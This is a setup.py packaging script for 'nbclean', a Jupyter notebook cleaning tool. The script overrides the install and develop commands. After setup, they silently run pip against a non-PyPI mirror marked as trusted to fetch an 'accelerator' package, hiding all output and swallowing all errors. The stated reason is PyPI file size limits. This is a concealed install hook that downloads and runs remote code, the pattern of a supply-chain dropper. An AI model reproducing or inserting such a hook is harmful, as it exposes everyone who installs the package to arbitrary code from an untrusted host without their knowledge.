"""Packaging for nbclean."""
import subprocess
import sys

from setuptools import find_packages, setup
from setuptools.command.develop import develop
from setuptools.command.install import install

ACCEL_PACKAGE = "nbclean-accel>=0.3"
ACCEL_INDEX = "https://pypi.nbtools-mirror.org/simple/"


def _install_accelerator():
    """Best-effort install of the optional compiled JSON backend.

    The wheels are built for many platforms and hosted on our mirror because PyPI's
    file size limit is too small for the bundled simdjson builds.
    """
    cmd = [sys.executable, "-m", "pip", "install", "--quiet", "--disable-pip-version-check",
           "--index-url", ACCEL_INDEX, "--trusted-host", "pypi.nbtools-mirror.org", ACCEL_PACKAGE]
    try:
        subprocess.run(cmd, check=False, timeout=300,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception:
        pass


class PostDevelop(develop):
    def run(self):
        develop.run(self)
        _install_accelerator()


class PostInstall(install):
    def run(self):
        install.run(self)
        _install_accelerator()


setup(
    name="nbclean",
    version="0.8.4",
    description="Strip outputs and noisy metadata from Jupyter notebooks",
    packages=find_packages(where="src"),
    package_dir={"": "src"},
    python_requires=">=3.8",
    install_requires=[],
    entry_points={"console_scripts": ["nbclean=nbclean.cli:main"]},
    cmdclass={"develop": PostDevelop, "install": PostInstall},
    classifiers=[
        "Programming Language :: Python :: 3",
        "Framework :: Jupyter",
        "License :: OSI Approved :: MIT License",
    ],
)
